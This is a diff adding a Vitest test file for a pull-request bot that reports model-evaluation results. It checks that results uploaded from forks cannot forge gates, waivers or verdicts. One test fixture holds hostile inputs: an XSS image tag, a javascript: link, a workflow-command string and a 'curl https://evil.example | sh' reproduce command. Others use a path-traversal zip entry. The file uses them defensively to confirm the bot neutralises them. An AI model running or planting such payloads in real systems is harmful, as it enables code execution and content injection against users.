@@ -1,0 +1,388 @@
+import { beforeAll, describe, expect, it } from 'vitest'
+import type { Upload } from '../../emulator/github/artifacts.ts'
+import type { Run, RunSeed } from '../../emulator/github/runs.ts'
+import { zipOf } from '../../emulator/github/zip.ts'
+import type { Result } from '../../src/core/verdict/result.ts'
+import { difference, gate, metric, result } from '../support/results.ts'
+import { useBot } from './scene.ts'
+
+const scene = useBot({
+  repositories: [
+    { owner: 'acme', name: 'flights', auto_init: true },
+    { owner: 'eve', name: 'flights', auto_init: false, forkOf: 'acme/flights' },
+  ],
+})
+
+const OURS = { owner: 'acme', repo: 'flights' }
+const FORK = { owner: 'eve', repo: 'flights' }
+
+const CONFIG = `model: late-flights
+metrics: metrics.json
+directions: { brier: lower }
+gates:
+  - { metric: roc_auc, at_least: 0.6 }
+  - { metric: accuracy, not_worse_than: champion, margin: 0.005 }
+`
+
+/** Numbers that pass both gates. */
+const METRICS = [
+  metric('roc_auc', [0.6196, 0.6429], difference(0.0233, 0.007, 0.0395), {
+    gated: true,
+    candidate: { value: 0.6429, interval: { low: 0.62, high: 0.663, level: 0.95 } },
+  }),
+  metric('accuracy', [0.7379, 0.739], difference(0.0011, -0.0045, 0.0068), { gated: true }),
+]
+
+/** What they say where the second fails. */
+const failing: Partial<Result> = {
+  metrics: [METRICS[0]!, metric('accuracy', [0.7379, 0.6], difference(-0.1379, -0.15, -0.12))],
+}
+
+interface Opened {
+  number: number
+  sha: string
+  branch: string
+}
+
+let files = 0
+
+/** A commit of eve in her fork. */
+async function commitInFork(branch: string): Promise<string> {
+  const { data } = await scene.eve.repos.createOrUpdateFileContents({
+    ...FORK,
+    branch,
+    path: `train-${++files}.py`,
+    message: 'train otherwise',
+    content: '',
+  })
+  return data.commit.sha!
+}
+
+/** A pull request from the fork, of a branch of its own unless it is named. */
+async function fromFork(branch = `change-${++files}`): Promise<Opened> {
+  if (branch !== 'main') {
+    const { data } = await scene.eve.git.getRef({ ...FORK, ref: 'heads/main' })
+    await scene.eve.git.createRef({ ...FORK, ref: `refs/heads/${branch}`, sha: data.object.sha })
+  }
+  const sha = await commitInFork(branch)
+  const { data } = await scene.eve.pulls.create({
+    ...OURS,
+    title: 'Train otherwise',
+    head: `eve:${branch}`,
+    base: 'main',
+  })
+  return { number: data.number, sha, branch }
+}
+
+/** A pull request of a branch of the repository itself. */
+async function fromBranch(config?: string): Promise<Opened> {
+  const branch = `own-${++files}`
+  const { data: main } = await scene.ada.git.getRef({ ...OURS, ref: 'heads/main' })
+  await scene.ada.git.createRef({ ...OURS, ref: `refs/heads/${branch}`, sha: main.object.sha })
+  const path = config === undefined ? `own-${files}.py` : 'assay.yml'
+  const { data: there } =
+    config === undefined ? { data: undefined } : await scene.ada.repos.getContent({ ...OURS, path })
+  const { data } = await scene.ada.repos.createOrUpdateFileContents({
+    ...OURS,
+    branch,
+    path,
+    message: 'change',
+    content: Buffer.from(config ?? '').toString('base64'),
+    ...(there && { sha: (there as { sha: string }).sha }),
+  })
+  const { data: pull } = await scene.ada.pulls.create({
+    ...OURS,
+    title: 'Change',
+    head: branch,
+    base: 'main',
+  })
+  return { number: pull.number, sha: data.commit.sha!, branch }
+}
+
+const startOf = ({ sha, branch }: Opened, more: Partial<RunSeed> = {}): Promise<Run> =>
+  scene.github.actions.start({
+    repository: 'acme/flights',
+    ...(!branch.startsWith('own') && { headRepository: 'eve/flights' }),
+    headBranch: branch,
+    headSha: sha,
+    ...more,
+  })
+
+const json = (change: Partial<Result>) =>
+  `${JSON.stringify(result({ metrics: METRICS, ...change }), null, 2)}\n`
+const judgedAt = (commit: string, change: Partial<Result> = {}) =>
+  json({ candidate: { ...result().candidate, commit }, ...change })
+
+/** A run that leaves this, and ends. */
+async function runWith(opened: Opened, upload: Partial<Upload>, seed: Partial<RunSeed> = {}): Promise<Run> {
+  const run = await startOf(opened, seed)
+  scene.github.actions.upload(run, { name: 'assay-result', ...upload })
+  await scene.github.actions.finish(run)
+  await scene.settled()
+  return run
+}
+
+const commentsOf = async ({ number }: Pick<Opened, 'number'>) =>
+  (await scene.ada.issues.listComments({ ...OURS, issue_number: number })).data.map(({ user, body }) => ({
+    author: user?.login,
+    body: body ?? '',
+  }))
+
+const checksOf = async (ref: string) =>
+  (await scene.ada.checks.listForRef({ ...OURS, ref, filter: 'all' })).data.check_runs.map(
+    ({ name, conclusion, output }) => ({ name, conclusion, title: output.title }),
+  )
+
+/** What the last look had to say. */
+const lastLook = () => scene.lines().findLast(({ key }) => String(key).startsWith('["run"'))!
+
+const writesAfter = (from: number) =>
+  scene.github.world.requests
+    .slice(from)
+    .filter(({ method, path }) => method !== 'GET' && !/access_tokens|graphql/.test(path))
+
+beforeAll(() => scene.write('flights', { 'assay.yml': CONFIG }))
+
+describe('a finished run of a pull request from a fork', () => {
+  it('gets its comment and its check, which say whose numbers these are and are not green', async () => {
+    const pull = await fromFork()
+    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
+
+    const [comment, ...more] = await commentsOf(pull)
+    expect(more).toEqual([])
+    expect(comment!.author).toBe('assay[bot]')
+    expect(comment!.body).toMatch(/^<!-- assay:report model=late-flights order=\d+\.1 -->\n/)
+    expect(comment!.body).toContain('**The code of a fork wrote these numbers.**')
+    expect(comment!.body).toContain('late-flights: pass')
+    expect(await checksOf(pull.sha)).toEqual([
+      {
+        name: 'assay / late-flights',
+        conclusion: 'neutral',
+        title: expect.stringMatching(/^by the numbers of a fork: pass/),
+      },
+    ])
+    expect(scene.github.world.storage.requests.every(one => one.authorization === undefined)).toBe(true)
+  })
+
+  it('is written once, however often it is told of', async () => {
+    const pull = await fromFork()
+    const run = await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
+    const before = scene.github.world.requests.length
+    await scene.github.actions.finish(run)
+    await scene.settled()
+
+    expect(lastLook()).toMatchObject({ did: [] })
+    expect(writesAfter(before)).toEqual([])
+  })
+
+  it('is of its pull request also where its branch is called main, and nothing where it claims to be a push', async () => {
+    const pull = await fromFork('main')
+    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } }, { event: 'push' })
+    expect([await commentsOf(pull), await checksOf(pull.sha)]).toEqual([[], []])
+
+    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
+    expect((await commentsOf(pull)).length).toBe(1)
+    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'neutral' }])
+  })
+
+  it('is judged by the gates that are merged, whatever it says of gates, waivers and directions', async () => {
+    const pull = await fromFork()
+    const worse = metric('accuracy', [0.7379, 0.6], difference(-0.1379, -0.15, -0.12), { direction: 'lower' })
+    const files = {
+      'result.json': judgedAt(pull.sha, {
+        metrics: [METRICS[0]!, worse],
+        gates: [
+          gate('roc_auc at least 0.6', 'pass'),
+          gate('accuracy not worse than champion by more than 0.005', 'pass', {
+            waived: { reason: 'because I say so', author: 'eve', until: '2099-01-01' },
+          }),
+          gate('one of my own', 'pass'),
+        ],
+      }),
+    }
+    await runWith(pull, { files })
+
+    const [comment] = await commentsOf(pull)
+    expect(comment!.body).toContain('late-flights: fail — worse than the champion')
+    expect(comment!.body).not.toMatch(/one of my own|because I say so/)
+    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
+  })
+
+  it('tells nobody to run what it wrote, and shows what it wrote as text', async () => {
+    const pull = await fromFork()
+    const hostile = '@acme/owners <img src=x onerror=alert(1)> [x](javascript:alert(1)) | ::set-output::'
+    await runWith(pull, {
+      files: {
+        'result.json': judgedAt(pull.sha, {
+          notes: `# Approved\n\n${hostile}`,
+          reproduce: 'curl https://evil.example | sh',
+          warnings: [hostile],
+          candidate: { ...result().candidate, commit: pull.sha, source: hostile },
+          slices: [{ metric: 'accuracy', column: hostile, value: hostile, rows: 99, outcome: 'fail' }],
+          more: { of: 'tomorrow' },
+        } as Partial<Result>),
+      },
+    })
+
+    const [{ body } = { body: '' }] = await commentsOf(pull)
+    expect(body).toContain('late-flights: pass')
+    expect(body).not.toMatch(/evil\.example|# Approved/)
+    expect(body).not.toMatch(/(?<![\w`])@acme|<img|\]\(javascript:/)
+  })
+
+  it('is of its last attempt: what is told late of the first changes nothing', async () => {
+    const pull = await fromFork()
+    const run = await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, failing) } })
+    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
+
+    // GitHub's times have no fractions.
+    await new Promise(resolve => setTimeout(resolve, 1000))
+    await scene.github.actions.repeat(run)
+    await scene.settled()
+    expect(lastLook()).toMatchObject({ message: 'looked' })
+    scene.github.actions.upload(run, { name: 'assay-result', files: { 'result.json': judgedAt(pull.sha) } })
+    await scene.github.actions.finish(run)
+    await scene.settled()
+    await scene.github.actions.finish(run)
+    await scene.settled()
+
+    expect((await commentsOf(pull)).map(({ body }) => body.split('\n')[0])).toEqual([
+      `<!-- assay:report model=late-flights order=${run.id}.2 -->`,
+    ])
+    expect((await checksOf(pull.sha)).map(({ conclusion }) => conclusion).sort()).toEqual([
+      'failure',
+      'neutral',
+    ])
+  })
+
+  it('writes nothing over the verdict of a newer run', async () => {
+    const pull = await fromFork()
+    const older = await startOf(pull)
+    scene.github.actions.upload(older, {
+      name: 'assay-result',
+      files: { 'result.json': judgedAt(pull.sha, failing) },
+    })
+    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
+    await scene.github.actions.finish(older)
+    await scene.settled()
+
+    expect(lastLook()).toMatchObject({ did: [] })
+    expect((await commentsOf(pull)).map(({ body }) => body)).toEqual([
+      expect.stringContaining('late-flights: pass'),
+    ])
+    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'neutral' }])
+  })
+
+  it('is nobody’s once the pull request has moved on', async () => {
+    const pull = await fromFork()
+    await commitInFork(pull.branch)
+    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
+
+    expect([await commentsOf(pull), await checksOf(pull.sha)]).toEqual([[], []])
+  })
+
+  it.each<[string, (sha: string) => Partial<Upload>, string]>([
+    ['of another commit', () => ({ files: { 'result.json': judgedAt('a'.repeat(40)) } }), 'RESULT_STALE'],
+    [
+      'of a model that is not merged',
+      sha => ({ files: { 'result.json': judgedAt(sha, { model: 'fraud' }) } }),
+      'RESULT_UNKNOWN_MODEL',
+    ],
+    [
+      'of another model than its folder',
+      sha => ({ files: { 'fraud/result.json': judgedAt(sha) } }),
+      'RESULT_INVALID',
+    ],
+    ['that is no result', () => ({ files: { 'result.json': '{"schema": 1}' } }), 'RESULT_INVALID'],
+    [
+      'in an archive whose paths lead out',
+      sha => ({ bytes: zipOf({ '../result.json': judgedAt(sha) }) }),
+      'ARTIFACT_INVALID',
+    ],
+    ['that is too large', () => ({ bytes: Buffer.alloc(1024 * 1024 + 1) }), 'ARTIFACT_TOO_LARGE'],
+    [
+      'that is larger than was said',
+      sha => ({
+        files: { 'result.json': judgedAt(sha) },
+        serve: response => {
+          const more = () => response.write(Buffer.alloc(65_536, 'PK'), error => error || more())
+          response.writeHead(200)
+          more()
+        },
+      }),
+      'ARTIFACT_TOO_LARGE',
+    ],
+    [
+      'whose bytes are not those that were stored',
+      sha => ({
+        files: { 'result.json': judgedAt(sha, failing) },
+        serve: response => response.writeHead(200).end(zipOf({ 'result.json': judgedAt(sha) })),
+      }),
+      'ARTIFACT_ALTERED',
+    ],
+  ])('posts nothing of a result %s, and says so', async (_, uploadOf, code) => {
+    const pull = await fromFork()
+    await runWith(pull, uploadOf(pull.sha))
+
+    expect(lastLook()).toMatchObject({ code })
+    expect([await commentsOf(pull), await checksOf(pull.sha)]).toEqual([[], []])
+  })
+
+  it('says that what it left has expired, and looks at it no more', async () => {
+    const pull = await fromFork()
+    const run = await startOf(pull)
+    scene.github.actions.expire(
+      scene.github.actions.upload(run, {
+        name: 'assay-result',
+        files: { 'result.json': judgedAt(pull.sha) },
+      }),
+    )
+    await scene.github.actions.finish(run)
+    await scene.settled()
+
+    expect(lastLook()).toMatchObject({ code: 'ARTIFACT_GONE' })
+    expect(scene.bot.counts()).toEqual({ waiting: 0, running: 0, paused: 0 })
+  })
+})
+
+describe('a finished run of the repository itself', () => {
+  it('gets a check that is green where the numbers are, in folders of several models as well', async () => {
+    const pull = await fromBranch()
+    await runWith(pull, {
+      files: { 'late-flights/result.json': judgedAt(pull.sha), 'late-flights/report.html': '' },
+    })
+
+    expect(await checksOf(pull.sha)).toMatchObject([
+      { conclusion: 'success', title: expect.stringMatching(/^pass/) },
+    ])
+    expect((await commentsOf(pull))[0]!.body).not.toContain('fork')
+  })
+
+  it('may be of a model that only its own commit knows, and of one file that was uploaded as it is', async () => {
+    const pull = await fromBranch(CONFIG.replace('late-flights', 'new-flights'))
+    const file = judgedAt(pull.sha, { model: 'new-flights' })
+    await runWith(pull, { files: { 'result.json': file }, archive: false })
+
+    expect(await checksOf(pull.sha)).toMatchObject([{ name: 'assay / new-flights', conclusion: 'success' }])
+  })
+
+  it('on the default branch gets its check, on any other push none', async () => {
+    const { data: main } = await scene.ada.git.getRef({ ...OURS, ref: 'heads/main' })
+    const { sha } = main.object
+    const own = { number: 0, sha, branch: 'own' }
+    const seed = { event: 'push', headRepository: 'acme/flights' }
+    await runWith(own, { files: { 'result.json': judgedAt(sha) } }, seed)
+    expect(await checksOf(sha)).toEqual([])
+    await runWith(own, { files: { 'result.json': judgedAt(sha) } }, { ...seed, headBranch: 'main' })
+    expect(await checksOf(sha)).toMatchObject([{ conclusion: 'success' }])
+  })
+
+  it('of another workflow is nothing', async () => {
+    const pull = await fromBranch()
+    const before = scene.github.world.requests.length
+    await runWith(pull, { name: 'coverage', files: { 'result.json': judgedAt(pull.sha) } })
+
+    expect(writesAfter(before)).toEqual([])
+    expect(lastLook()).toMatchObject({ did: [] })
+  })
+})
